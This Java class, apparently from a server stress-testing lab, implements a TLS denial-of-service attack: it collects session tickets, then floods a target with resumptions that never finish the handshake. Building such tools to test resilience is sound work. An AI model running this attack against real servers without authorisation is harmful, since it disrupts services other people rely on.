package io.headwaiter.lab.abuse;

import io.headwaiter.load.TlsMemory;
import java.io.IOException;
import java.time.Duration;
import java.util.List;
import java.util.stream.Stream;

/**
 * A few visits collect tickets, then resume with all of them at once and finish no handshake. When
 * the server ends such a connection, its ticket is shown again.
 */
public final class UnfinishedResumptions implements Attacker {
  private static final int TICKETS_MAX = 200;
  private static final TlsLink.Script NOTHING = new TlsLink.Script() {};

  private final List<TlsMemory> visits;
  private final int resumptions;
  private final String page;
  private final Duration calm;
  private final double ratePerSecond;
  private final TlsCrowd crowd;
  private int next;

  /**
   * Nothing is sent yet.
   *
   * @param visits how many, at least 1
   * @param resumptions of each in the calm time before
   * @param page of these
   * @param ratePerSecond connections begun per second in the attack, while there are tickets
   */
  public UnfinishedResumptions(
      Target target,
      int visits,
      int resumptions,
      String page,
      Duration calm,
      double ratePerSecond,
      String networks)
      throws IOException {
    this.visits = Stream.generate(() -> TlsMemory.thrifty(TICKETS_MAX)).limit(visits).toList();
    this.resumptions = resumptions;
    this.page = page;
    this.calm = calm;
    this.ratePerSecond = ratePerSecond;
    this.crowd = new TlsCrowd(target, List.of(), networks);
  }

  @Override
  public void prepare() throws IOException, InterruptedException {
    Tickets.collect(crowd, visits, page, resumptions, calm);
  }

  @Override
  public Tally run(Duration duration) throws IOException, InterruptedException {
    return crowd.run(
        duration, () -> crowd.paced(ratePerSecond, () -> visits.size() * TICKETS_MAX, this::come));
  }

  private void come() {
    for (int tried = 0; tried < visits.size(); tried++) {
      TlsMemory visit = visits.get(next++ % visits.size());
      if (visit.size() > 0) {
        crowd.connectDeaf(visit, NOTHING);
        return;
      }
    }
  }

  @Override
  public void close() {
    crowd.close();
  }
}
